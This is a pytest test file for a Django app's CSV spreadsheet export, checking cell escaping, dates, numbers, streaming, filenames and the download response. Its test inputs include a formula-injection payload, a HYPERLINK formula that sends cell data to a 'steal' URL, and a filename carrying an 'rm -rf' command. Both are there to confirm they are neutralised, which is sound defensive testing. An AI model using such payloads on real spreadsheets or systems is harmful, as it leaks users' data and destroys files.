"""Lists as spreadsheets (tandem/ui/spreadsheet.py): what a cell holds, how the file starts, its
name, and that it is sent as it is made."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from tandem.ui.spreadsheet import cell, csv_lines, csv_response, filename


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")',
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_keeps_anything_a_spreadsheet_would_run_as_text(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Priya Patel", "O'Neill", "Sam = Sam", "", "1 + 1", " =x"])
def test_it_leaves_other_text_as_it_was_typed(typed):
    assert cell(typed) == typed


def test_it_writes_dates_the_way_every_spreadsheet_reads_them():
    assert cell(datetime.date(2026, 3, 5)) == "2026-03-05"
    moment = timezone.make_aware(datetime.datetime(2026, 3, 5, 9, 30), datetime.UTC)
    assert cell(moment) == timezone.localtime(moment).strftime("%Y-%m-%d %H:%M")


def test_numbers_stay_numbers_and_yes_no_and_nothing_are_words():
    # A negative number cannot run: it is not made text, so it still adds up.
    assert [cell(-3), cell(0), cell(Decimal("12.50"))] == ["-3", "0", "12.50"]
    assert [cell(True), cell(False), cell(None)] == ["Yes", "No", ""]


def test_the_file_starts_with_a_byte_order_mark_and_quotes_every_cell():
    lines = list(csv_lines(["Name", "Born"], [["Zoë, “Jo”", datetime.date(1970, 1, 1)]]))
    assert lines[0] == '\ufeff"Name","Born"\r\n'
    # A semicolon or comma inside a cell never splits it, whatever the spreadsheet's language.
    assert list(csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff")))) == [
        ["Name", "Born"],
        ["Zoë, “Jo”", "1970-01-01"],
    ]


def test_it_reads_a_row_only_when_its_line_is_sent():
    read = []

    def rows():
        for n in range(3):
            read.append(n)
            yield [n]

    lines = csv_lines(["N"], rows())
    next(lines)
    assert read == []
    next(lines)
    assert read == [0]


def test_the_file_is_named_for_what_it_is_and_the_day():
    on = datetime.date(2026, 6, 1)
    assert filename("worklist", on=on) == "worklist-2026-06-01.csv"
    assert (
        filename("team dashboard", "", "copies", "Not sent / late", on=on)
        == "team-dashboard-copies-not-sent-late-2026-06-01.csv"
    )
    assert filename('"; rm -rf', on=on) == "rm-rf-2026-06-01.csv"


def test_the_response_is_a_download_in_utf8_never_cached():
    response = csv_response(name="people-2026-06-01.csv", header=["Name"], rows=[["Siân"]])
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people-2026-06-01.csv"'
    assert "no-store" in response["Cache-Control"]
    assert response.getvalue() == '\ufeff"Name"\r\n"Siân"\r\n'.encode()
